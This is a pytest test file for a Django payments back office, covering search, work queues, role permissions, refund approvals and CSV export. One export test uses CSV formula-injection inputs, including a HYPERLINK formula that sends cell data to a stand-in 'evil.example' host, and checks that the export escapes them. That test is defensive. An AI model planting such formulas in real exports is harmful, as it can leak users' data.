"""The back office's payments: the list, search and work queues, the payment's page, and the
actions through the admin's own forms, as reviewers and managers see them."""

import csv
import importlib
import io
from datetime import timedelta
from decimal import Decimal

import pytest
from django.apps import apps as django_apps
from django.contrib.admin.helpers import ACTION_CHECKBOX_NAME
from django.db import connection
from django.test import Client
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone

from gateways.card.simulator import cards
from gateways.models import CallbackOutcome, Gateway, GatewayCallback, GatewaySwitch
from notifications.models import Notification, NotificationChannel
from payments.exceptions import InvalidRefund
from payments.models import (
    DiscrepancyKind,
    GatewayOperation,
    OperationKind,
    OperationStatus,
    Payment,
    PaymentKind,
    PaymentStatus,
    ReconciliationDiscrepancy,
)
from payments.refunds.services import refund_check_amount
from payments.services import payment_fail, payment_flag_for_review
from tests.back_office import back_office_sign_in, manager, reviewer
from tests.factories import OrderFactory, PaymentFactory, StaffFactory, UserFactory
from tests.payments.test_reconciliation import paid_at_ecpay_without_notification

pytestmark = pytest.mark.django_db

CHANGELIST = reverse("admin:payments_payment_changelist")


@pytest.fixture
def roles_again(transactional_db) -> None:
    """A transactional test starts from a flushed database, without the roles their data
    migration made: make them again, with that migration's own code."""
    migration = importlib.import_module("accounts.migrations.0003_back_office_roles")
    migration.create_roles(django_apps, None)


def page(response) -> str:
    assert response.status_code == 200, response.status_code
    return str(response.content.decode())


def dead_letter(**fields) -> Payment:
    """A payment the pipeline gave up on: pending, then processing, then failed."""
    payment = PaymentFactory.create(**fields)
    payment_fail(payment_id=payment.pk, reason="process step crashed", needs_review=True)
    return Payment.objects.get(pk=payment.pk)


def act(client, action: str, payments, **form):
    """Post an admin action as its confirmation page does (post=yes and the page's fields)."""
    return client.post(
        CHANGELIST,
        {"action": action, ACTION_CHECKBOX_NAME: [p.pk for p in payments], "post": "yes", **form},
    )


def action_names(client) -> set[str]:
    form = client.get(CHANGELIST).context["action_form"]
    return set() if form is None else {name for name, _ in form.fields["action"].choices if name}


def test_the_list_shows_what_a_reviewer_reads_first(client):
    order = OrderFactory.create()
    payment = PaymentFactory.create(
        user=order.user, kind=PaymentKind.ORDER, order=order, amount=order.total, needs_review=True
    )
    back_office_sign_in(client, reviewer())

    listing = page(client.get(CHANGELIST))

    # A short id, the whole one in its title, linking to the payment.
    assert f'title="{payment.public_id}">{payment.public_id[:8]}…{payment.public_id[-4:]}' in (
        listing
    )
    assert f"/admin/payments/payment/{payment.pk}/change/" in listing
    assert order.user.email in listing
    assert "Card provider / Card" in listing
    assert '<span class="cell-amount">960.00 TWD</span>' in listing
    assert '<span class="badge badge-pending">Pending</span>' in listing
    assert "UTC+08" in listing  # times say their zone
    assert '<span class="badge badge-review">needs review</span>' in listing


@pytest.mark.parametrize(
    "reference",
    ["public_id", "merchant_trade_no", "gateway_reference", "order_number", "customer_email"],
)
def test_a_payment_is_found_by_any_of_its_references(client, reference):
    order = OrderFactory.create()
    wanted = PaymentFactory.create(
        user=order.user,
        kind=PaymentKind.ORDER,
        order=order,
        merchant_trade_no="TS2025060300017",
        gateway_reference="2506031012451234",
    )
    other = PaymentFactory.create(merchant_trade_no="TS2025060300018")
    term = {
        "public_id": wanted.public_id,
        "merchant_trade_no": wanted.merchant_trade_no,
        "gateway_reference": wanted.gateway_reference,
        "order_number": order.number,
        "customer_email": order.user.email.upper(),
    }[reference]
    back_office_sign_in(client, reviewer())

    listing = page(client.get(CHANGELIST, {"q": term}))

    assert wanted.public_id in listing
    assert other.public_id not in listing


def test_a_page_of_payments_costs_the_same_queries_for_one_payment_or_fifty(client):
    back_office_sign_in(client, reviewer())

    def queries_for_a_page() -> int:
        with CaptureQueriesContext(connection) as queries:
            page(client.get(CHANGELIST))
        counts = [q["sql"] for q in queries if "COUNT(" in q["sql"].upper()]
        # Never a COUNT(*) of the whole table: only counts capped by a LIMIT.
        assert all("LIMIT" in sql.upper() for sql in counts), counts
        return len(queries)

    order = OrderFactory.create()
    PaymentFactory.create(user=order.user, kind=PaymentKind.ORDER, order=order)
    one = queries_for_a_page()
    for _ in range(49):
        order = OrderFactory.create()
        PaymentFactory.create(user=order.user, kind=PaymentKind.ORDER, order=order)
    fifty = queries_for_a_page()

    # The customers and the orders are one query each for the whole page (prefetched by
    # primary key), not one per row.
    assert fifty == one


def payments_selects(queries) -> list[str]:
    """The page's queries over the payments table, with SQLite's and MariaDB's quoting alike."""
    sqls = [q["sql"].replace("`", '"') for q in queries]
    return [sql for sql in sqls if sql.startswith("SELECT") and 'FROM "payments_payment"' in sql]


def test_the_page_reads_payments_alone_newest_first_then_their_customers(client):
    order = OrderFactory.create()
    payment = PaymentFactory.create(user=order.user, kind=PaymentKind.ORDER, order=order)
    back_office_sign_in(client, reviewer())

    with CaptureQueriesContext(connection) as queries:
        listing = page(client.get(CHANGELIST))

    # Only the capped count and the page itself: no year list of every payment's local date.
    count, rows = payments_selects(queries)
    assert "COUNT(" in count
    # A JOIN lets MariaDB start from the users table and sort every payment on disk; alone,
    # the newest page is read backwards along payment_created_idx and the scan stops at 50.
    assert "JOIN" not in rows
    assert 'ORDER BY "payments_payment"."created_at" DESC, "payments_payment"."id" DESC' in rows
    assert payment.public_id in listing
    assert order.user.email in listing


def test_the_list_offers_no_sorting_by_column(client):
    PaymentFactory.create()
    back_office_sign_in(client, reviewer())

    listing = page(client.get(CHANGELIST))

    assert "?o=" not in listing
    assert 'class="sortable' not in listing


@pytest.mark.parametrize("choice", ["Today", "Past 7 days", "This year", "Any date"])
def test_the_date_filter_lists_only_the_payments_of_its_range(client, choice):
    now = timezone.now()
    created = {
        "now": now,
        "three days ago": now - timedelta(days=3),
        "twenty days ago": now - timedelta(days=20),
        "last year": now - timedelta(days=400),
    }
    today = timezone.localdate(now)
    in_range = {
        "Today": lambda day: day == today,
        "Past 7 days": lambda day: day >= today - timedelta(days=7),
        "This year": lambda day: day.year == today.year,
        "Any date": lambda day: True,
    }[choice]
    payments = {}
    for name, created_at in created.items():
        payments[name] = PaymentFactory.create()
        Payment.objects.filter(pk=payments[name].pk).update(created_at=created_at)
    back_office_sign_in(client, reviewer())
    changelist = client.get(CHANGELIST).context["cl"]
    (dates,) = [spec for spec in changelist.filter_specs if spec.title == "created at"]
    query_string = {c["display"]: c["query_string"] for c in dates.choices(changelist)}[choice]

    with CaptureQueriesContext(connection) as queries:
        listing = page(client.get(CHANGELIST + query_string))

    shown = {name for name, p in payments.items() if p.public_id in listing}
    assert shown == {name for name, at in created.items() if in_range(timezone.localdate(at))}
    # A range of created_at, bounds computed in Python: no time zone conversion of each row.
    _, rows = payments_selects(queries)
    assert choice == "Any date" or '"payments_payment"."created_at" >=' in rows


def test_each_work_queue_lists_only_its_payments(client, settings):
    settings.STUCK_PAYMENT_MINUTES = 30
    letter = dead_letter()
    stuck = PaymentFactory.create(status=PaymentStatus.PROCESSING)
    Payment.objects.filter(pk=stuck.pk).update(created_at=timezone.now() - timedelta(hours=1))
    fresh = PaymentFactory.create(status=PaymentStatus.PROCESSING)
    unknown = PaymentFactory.create(status=PaymentStatus.PROCESSING)
    GatewayOperation.objects.create(
        payment=unknown,
        gateway=Gateway.CARD,
        kind=OperationKind.CHARGE,
        idempotency_key="op-unknown",
        amount=unknown.amount,
        status=OperationStatus.UNKNOWN,
    )
    differs = PaymentFactory.create(status=PaymentStatus.FAILED)
    ReconciliationDiscrepancy.objects.create(payment=differs, kind=DiscrepancyKind.STATUS_MISMATCH)
    everyone = [letter, stuck, fresh, unknown, differs]
    expected = {
        "review": letter,
        "stuck": stuck,
        "unknown": unknown,
        "discrepancy": differs,
    }
    back_office_sign_in(client, reviewer())

    for queue, payment in expected.items():
        listing = page(client.get(CHANGELIST, {"queue": queue}))
        shown = {p.public_id for p in everyone if p.public_id in listing}
        assert shown == {payment.public_id}, queue


def test_the_payment_page_is_read_only_and_shows_timeline_callbacks_and_notifications(client):
    payment = dead_letter(merchant_trade_no="TS2025060300017")
    GatewayCallback.objects.create(
        gateway=Gateway.ECPAY,
        body="RtnCode=1&MerchantTradeNo=TS2025060300017",
        outcome=CallbackOutcome.ACCEPTED,
        payment=payment,
    )
    Notification.objects.create(
        payment=payment,
        event="failed",
        channel=NotificationChannel.EMAIL,
        recipient=payment.user.email,
    )
    back_office_sign_in(client, reviewer())

    detail = page(client.get(reverse("admin:payments_payment_change", args=[payment.pk])))

    assert "process step crashed" in detail
    assert detail.index(">processing<") < detail.index(">failed<")  # the timeline, in order
    assert "RtnCode=1&amp;MerchantTradeNo=TS2025060300017" in detail
    assert payment.user.email in detail
    assert 'name="amount"' not in detail
    assert 'name="status"' not in detail
    assert 'name="_save"' not in detail


def test_staff_without_the_view_permission_see_no_payments(client):
    back_office_sign_in(client, UserFactory.create(is_staff=True))

    assert client.get(CHANGELIST).status_code == 403


def test_a_reviewer_reprocesses_a_dead_letter_and_it_completes_charging_once(
    client, pay, monkeypatch, django_capture_on_commit_callbacks
):
    monkeypatch.setattr("payments.pipeline.payment_complete", lambda **kwargs: 1 / 0)
    payment = pay(cards.APPROVE)
    payment.refresh_from_db()
    assert (payment.status, payment.needs_review) == (PaymentStatus.FAILED, True)
    monkeypatch.undo()  # the fix is deployed
    staff = reviewer()
    back_office_sign_in(client, staff)

    confirmation = client.post(
        CHANGELIST, {"action": "reprocess", ACTION_CHECKBOX_NAME: [payment.pk]}
    )
    assert "Yes, reprocess them" in page(confirmation)
    with django_capture_on_commit_callbacks(execute=True):
        response = act(client, "reprocess", [payment])

    assert response.status_code == 302
    payment.refresh_from_db()
    assert payment.status == PaymentStatus.COMPLETED
    assert payment.operations.count() == 1
    assert payment.events.get(type="reprocessed").actor == staff


def test_reprocessing_a_payment_that_is_not_a_dead_letter_is_refused_and_changes_nothing(client):
    payment = PaymentFactory.create(status=PaymentStatus.COMPLETED)
    back_office_sign_in(client, reviewer())

    response = act(client, "reprocess", [payment])

    assert response.status_code == 302
    payment.refresh_from_db()
    assert payment.status == PaymentStatus.COMPLETED
    assert not payment.events.exists()


def test_marking_reviewed_asks_why_and_keeps_who_and_why_on_the_timeline(client):
    payment = dead_letter()
    staff = reviewer()
    back_office_sign_in(client, staff)

    without_reason = page(act(client, "mark_reviewed", [payment]))
    assert "This field is required" in without_reason
    assert Payment.objects.get(pk=payment.pk).needs_review

    act(client, "mark_reviewed", [payment], reason="customer paid again by ATM")

    payment.refresh_from_db()
    assert payment.needs_review is False
    event = payment.events.get(type="reviewed")
    assert (event.actor, event.data["reason"]) == (staff, "customer paid again by ATM")


def test_a_reviewer_may_not_refund_export_or_approve(client, pay):
    payment = pay(cards.APPROVE)
    back_office_sign_in(client, reviewer())

    choices = action_names(client)
    assert {"reprocess", "mark_reviewed"} <= choices
    assert not {"refund", "export_csv"} & choices
    act(client, "refund", [payment], reason="asked by phone")
    exported = act(client, "export_csv", [payment])

    assert exported["Content-Type"] != "text/csv; charset=utf-8"
    assert not payment.operations.filter(kind=OperationKind.REFUND).exists()
    approvals = reverse("admin:payments_refundapproval_changelist")
    assert client.get(approvals).status_code == 403


def test_a_manager_refunds_part_of_a_payment_through_the_gateway_with_a_reason(
    client, pay, django_capture_on_commit_callbacks
):
    payment = pay(cards.APPROVE)
    staff = manager()
    back_office_sign_in(client, staff)

    with django_capture_on_commit_callbacks(execute=True):
        act(client, "refund", [payment], amount="100", reason="one tin arrived dented")

    payment.refresh_from_db()
    refund = payment.operations.get(kind=OperationKind.REFUND)
    assert (refund.amount, refund.status) == (Decimal("100.00"), OperationStatus.SUCCEEDED)
    assert payment.refunded_amount == Decimal("100.00")
    asked = payment.events.get(type="refund_requested")
    assert (asked.actor, asked.data["reason"]) == (staff, "one tin arrived dented")


@pytest.mark.parametrize("amount", ["1" + "0" * 14, "1" + "0" * 29, "0.001"])
def test_an_amount_no_money_field_holds_is_a_form_error_and_refunds_nothing(client, pay, amount):
    payment = pay(cards.APPROVE)
    back_office_sign_in(client, manager())
    client.raise_request_exception = False

    response = act(client, "refund", [payment], amount=amount, reason="typed one key too long")

    assert response.status_code == 200  # the form again, saying what is wrong
    assert "errorlist" in page(response)
    assert not payment.operations.filter(kind=OperationKind.REFUND).exists()


def test_an_amount_past_decimal_precision_is_refused_as_more_than_is_left():
    with pytest.raises(InvalidRefund) as refused:
        refund_check_amount(Decimal("1" + "0" * 40), left=Decimal("960"), currency="TWD")

    assert refused.value.fields == {"amount": ["At most 960 TWD is left to refund."]}


def test_a_refund_above_the_threshold_waits_for_a_second_manager(
    client, pay, settings, django_capture_on_commit_callbacks
):
    settings.REFUND_APPROVAL_THRESHOLD = Decimal("500")
    payment = pay(cards.APPROVE)
    asker, approver = manager(), manager()
    back_office_sign_in(client, asker)

    act(client, "refund", [payment], reason="the whole shipment was lost")

    approval = payment.refund_approvals.get()
    assert approval.status == "requested"
    assert not payment.operations.filter(kind=OperationKind.REFUND).exists()
    approvals_list = reverse("admin:payments_refundapproval_changelist")
    decide = {"action": "approve", ACTION_CHECKBOX_NAME: [approval.pk], "post": "yes"}
    client.post(approvals_list, {**decide, "note": "approving my own"})
    approval.refresh_from_db()
    assert approval.status == "requested"  # never by whoever asked

    back_office_sign_in(client, approver)
    with django_capture_on_commit_callbacks(execute=True):
        client.post(approvals_list, {**decide, "note": "courier confirmed the loss"})

    approval.refresh_from_db()
    payment.refresh_from_db()
    assert (approval.status, approval.decided_by) == ("approved", approver)
    assert approval.operation is not None
    assert approval.operation.status == OperationStatus.SUCCEEDED
    assert payment.status == PaymentStatus.REFUNDED
    # Who did what: the requester asked, and the refund the approval made is theirs; the
    # approver approved it.
    assert [
        (e.type, e.actor) for e in payment.events.filter(actor__isnull=False).order_by("pk")
    ] == [
        ("refund_approval_requested", asker),
        ("refund_requested", asker),
        ("refund_approved", approver),
    ]


def test_a_refund_that_takes_the_payments_refunds_past_the_threshold_waits_for_approval(
    client, payment_of_40000, django_capture_on_commit_callbacks
):
    payment = payment_of_40000  # the threshold at 10000
    back_office_sign_in(client, manager())
    with django_capture_on_commit_callbacks(execute=True):
        act(client, "refund", [payment], amount="6000", reason="half the tins dented")

    done = act(client, "refund", [payment], amount="5000", reason="and the rest late")

    approval = payment.refund_approvals.get()
    assert (approval.status, approval.amount) == ("requested", Decimal("5000"))
    refunds = payment.operations.filter(kind=OperationKind.REFUND)
    assert list(refunds.values_list("amount", flat=True)) == [Decimal("6000")]
    messages = [str(m) for m in client.get(done["Location"]).context["messages"]]
    assert f"Payment {payment}: the refund waits for a second manager's approval." in messages


def test_a_rejected_refund_refunds_nothing(client, pay, settings):
    settings.REFUND_APPROVAL_THRESHOLD = Decimal("500")
    payment = pay(cards.APPROVE)
    back_office_sign_in(client, manager())
    act(client, "refund", [payment], reason="customer asked")
    approval = payment.refund_approvals.get()
    back_office_sign_in(client, manager())

    client.post(
        reverse("admin:payments_refundapproval_changelist"),
        {"action": "reject", ACTION_CHECKBOX_NAME: [approval.pk], "post": "yes", "note": "no"},
    )

    approval.refresh_from_db()
    assert approval.status == "rejected"
    assert not payment.operations.filter(kind=OperationKind.REFUND).exists()
    assert payment.events.get(type="refund_rejected").data["note"] == "no"


def test_a_manager_exports_the_selection_as_csv_and_the_export_is_on_the_timeline(client):
    payments = [PaymentFactory.create(merchant_trade_no=f"TS20250603000{n}") for n in (1, 2)]
    staff = manager()
    back_office_sign_in(client, staff)

    response = act(client, "export_csv", payments)

    assert response["Content-Type"] == "text/csv; charset=utf-8"
    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    assert [row["payment"] for row in rows] == [p.public_id for p in payments]
    assert rows[0]["merchant_trade_no"] == "TS202506030001"
    assert rows[0]["amount"] == "500.00"
    for payment in payments:
        assert payment.events.get(type="exported").actor == staff


def test_the_export_writes_no_cell_a_spreadsheet_would_run(client):
    addresses = ['=HYPERLINK("http://evil.example/?x="&A2)@example.com', "-2+3@example.com"]
    payments = [
        PaymentFactory.create(user=UserFactory.create(email=email), gateway_reference=f"@SUM({n})")
        for n, email in enumerate(addresses)
    ]
    back_office_sign_in(client, manager())

    rows = list(csv.DictReader(io.StringIO(act(client, "export_csv", payments).content.decode())))

    assert [row["customer"] for row in rows] == [f"'{email}" for email in addresses]
    assert [row["gateway_reference"] for row in rows] == ["'@SUM(0)", "'@SUM(1)"]
    assert rows[0]["amount"] == "500.00"


def test_a_manager_pauses_and_unpauses_a_gateway_saying_why(client):
    staff = manager()
    back_office_sign_in(client, staff)
    add = reverse("admin:gateways_gatewayswitch_add")

    client.post(add, {"gateway": Gateway.ECPAY, "paused": "on", "reason": "ECPay maintenance"})
    switch = GatewaySwitch.objects.get(gateway=Gateway.ECPAY)
    assert (switch.paused, switch.changed_by) == (True, staff)

    client.post(
        reverse("admin:gateways_gatewayswitch_changelist"),
        {
            "action": "unpause",
            ACTION_CHECKBOX_NAME: [switch.pk],
            "post": "yes",
            "reason": "maintenance over",
        },
    )

    switch.refresh_from_db()
    assert (switch.paused, switch.reason) == (False, "maintenance over")


def test_a_reviewer_may_not_pause_a_gateway(client):
    switch = GatewaySwitch.objects.create(gateway=Gateway.ECPAY)
    back_office_sign_in(client, reviewer())

    added = client.post(
        reverse("admin:gateways_gatewayswitch_add"), {"gateway": Gateway.CARD, "paused": "on"}
    )
    client.post(
        reverse("admin:gateways_gatewayswitch_changelist"),
        {"action": "pause", ACTION_CHECKBOX_NAME: [switch.pk], "post": "yes", "reason": "x"},
    )

    assert added.status_code == 403
    switch.refresh_from_db()
    assert switch.paused is False
    assert not GatewaySwitch.objects.filter(gateway=Gateway.CARD).exists()


def test_a_discrepancy_is_resolved_with_who_and_why(client):
    discrepancy = ReconciliationDiscrepancy.objects.create(
        payment=PaymentFactory.create(), kind=DiscrepancyKind.MISSING_CALLBACK
    )
    staff = reviewer()
    back_office_sign_in(client, staff)

    client.post(
        reverse("admin:payments_reconciliationdiscrepancy_changelist"),
        {
            "action": "resolve",
            ACTION_CHECKBOX_NAME: [discrepancy.pk],
            "post": "yes",
            "reason": "notification replayed",
        },
    )

    discrepancy.refresh_from_db()
    assert (discrepancy.resolved_by, discrepancy.resolution) == (staff, "notification replayed")
    assert discrepancy.resolved_at is not None


def test_staff_with_only_the_view_permission_get_no_actions(client):
    back_office_sign_in(client, StaffFactory.create())

    assert action_names(client) == set()


@pytest.mark.django_db(transaction=True)
def test_re_querying_ecpay_recovers_a_payment_whose_notification_was_lost(
    client, live_server, settings, roles_again
):
    settings.ECPAY_BASE_URL = f"{live_server.url}/simulators/ecpay"
    settings.SITE_URL = live_server.url
    payment = paid_at_ecpay_without_notification()
    assert payment.status == PaymentStatus.PENDING
    staff = reviewer()
    back_office_sign_in(client, staff)

    act(client, "requery", [payment])

    payment.refresh_from_db()
    assert payment.status == PaymentStatus.COMPLETED
    asked = payment.events.get(type="requeried")
    assert asked.actor == staff
    assert (asked.data["paid"], asked.data["status_after"]) == (True, PaymentStatus.COMPLETED)
    assert payment.discrepancies.get().kind == DiscrepancyKind.MISSING_CALLBACK


def test_re_querying_a_payment_ecpay_does_not_know_is_refused(client):
    payment = PaymentFactory.create(gateway=Gateway.CARD)
    back_office_sign_in(client, reviewer())

    response = act(client, "requery", [payment])

    assert response.status_code == 302
    assert not payment.events.exists()


@pytest.mark.parametrize("step", ["the list's form", "the confirmation page"])
def test_a_reviewers_refund_is_refused_naming_the_permission_and_the_role(client, step):
    payment = PaymentFactory.create(status=PaymentStatus.COMPLETED)
    back_office_sign_in(client, reviewer())
    form = {"action": "refund", ACTION_CHECKBOX_NAME: [payment.pk], "reason": "dented"}
    if step == "the list's form":
        form["index"] = "0"
    else:
        form["post"] = "yes"

    response = client.post(CHANGELIST, form, follow=True)

    [message] = [str(m) for m in response.context["messages"]]
    assert message == (
        'You may not "Refund (one payment)": it needs the permission payments.refund_payment, '
        "which the Payment managers role has."
    )
    assert not payment.operations.exists()


def test_a_reviewer_adds_a_note_that_shows_on_the_timeline_with_who_and_when(client):
    payment = PaymentFactory.create(needs_review=True)
    staff = reviewer()
    back_office_sign_in(client, staff)

    asked = client.post(CHANGELIST, {"action": "add_note", ACTION_CHECKBOX_NAME: [payment.pk]})
    assert "What did you find?" in page(asked)
    act(client, "add_note", [payment], note="Customer called: the card was stolen.")

    note = payment.events.get(type="staff_note")
    assert (note.actor, note.data) == (staff, {"note": "Customer called: the card was stolen."})
    payment.refresh_from_db()
    assert payment.needs_review is True  # a note is not a review
    timeline = page(client.get(reverse("admin:payments_payment_change", args=[payment.pk])))
    assert "Customer called: the card was stolen." in timeline
    assert staff.email in timeline


def test_an_empty_note_is_asked_for_again_and_adds_nothing(client):
    payment = PaymentFactory.create()
    back_office_sign_in(client, reviewer())

    response = act(client, "add_note", [payment], note="   ")

    assert "This field is required." in page(response)
    assert not payment.events.filter(type="staff_note").exists()


def test_a_payments_page_starts_with_a_summary_a_reviewer_reads_top_down(client):
    order = OrderFactory.create()
    payment = PaymentFactory.create(
        user=order.user,
        kind=PaymentKind.ORDER,
        order=order,
        amount=order.total,
        status=PaymentStatus.COMPLETED,
        merchant_trade_no="TS2025060300018",
        gateway_reference="ch_summary",
        card_brand="visa",
        card_last4="4242",
    )
    payment_flag_for_review(payment_id=payment.pk, reason="paid twice for one order")
    back_office_sign_in(client, reviewer())

    detail = page(client.get(reverse("admin:payments_payment_change", args=[payment.pk])))

    summary = detail.split('class="payment-summary"')[1].split("</section>")[0]
    for text in (
        f"{payment.amount:,} {payment.currency}",
        "badge-completed",
        "paid twice for one order",
        payment.user.email,
        f"balance {payment.user.balance:,} {payment.user.balance_currency}",
        order.number,
        "TS2025060300018",
        "ch_summary",
        "visa •••• 4242",
    ):
        assert text in summary, text
    # The summary comes first, then the timeline; every field is still there, folded.
    assert detail.index("payment-summary") < detail.index("events-group")
    assert "Every field" in detail


def test_the_page_offers_the_actions_the_role_allows_and_that_fit_the_payment(client, pay):
    payment = pay(cards.APPROVE)
    url = reverse("admin:payments_payment_change", args=[payment.pk])
    back_office_sign_in(client, reviewer())
    reviewers = page(client.get(url))
    managers_client = Client()
    back_office_sign_in(managers_client, manager())
    managers = page(managers_client.get(url))

    assert 'value="add_note"' in reviewers
    assert 'value="refund"' not in reviewers
    assert 'value="refund"' in managers
    assert 'value="export_csv"' in managers
    # Nothing to review, nothing to reprocess: those are not offered.
    assert 'value="mark_reviewed"' not in managers
    assert 'value="reprocess"' not in managers


def test_a_refund_started_on_the_page_asks_confirms_and_comes_back_to_the_page(
    client, pay, django_capture_on_commit_callbacks
):
    payment = pay(cards.APPROVE)
    url = reverse("admin:payments_payment_change", args=[payment.pk])
    back_office_sign_in(client, manager())
    form = {"action": "refund", ACTION_CHECKBOX_NAME: [payment.pk], "index": "0", "return_to": url}

    asked = page(client.post(CHANGELIST, form))
    assert f'name="return_to" value="{url}"' in asked
    with django_capture_on_commit_callbacks(execute=True):
        done = client.post(
            CHANGELIST, {**form, "post": "yes", "amount": "100", "reason": "dented tin"}
        )

    assert done.status_code == 302
    assert done["Location"] == url
    assert payment.operations.filter(kind=OperationKind.REFUND).count() == 1
    back = page(client.get(url))
    assert "refund asked of the gateway" in back


def test_an_action_never_returns_to_a_page_other_than_its_payments(client, pay):
    payment, other = pay(cards.APPROVE), pay(cards.APPROVE)
    back_office_sign_in(client, reviewer())

    done = client.post(
        CHANGELIST,
        {
            "action": "add_note",
            ACTION_CHECKBOX_NAME: [payment.pk],
            "post": "yes",
            "note": "called the customer",
            "return_to": reverse("admin:payments_payment_change", args=[other.pk]),
        },
    )

    assert done["Location"] == CHANGELIST


def test_a_deposits_page_offers_no_refund(client):
    deposit = PaymentFactory.create(kind=PaymentKind.DEPOSIT, status=PaymentStatus.COMPLETED)
    back_office_sign_in(client, manager())

    detail = page(client.get(reverse("admin:payments_payment_change", args=[deposit.pk])))

    assert 'value="add_note"' in detail
    assert 'value="refund"' not in detail
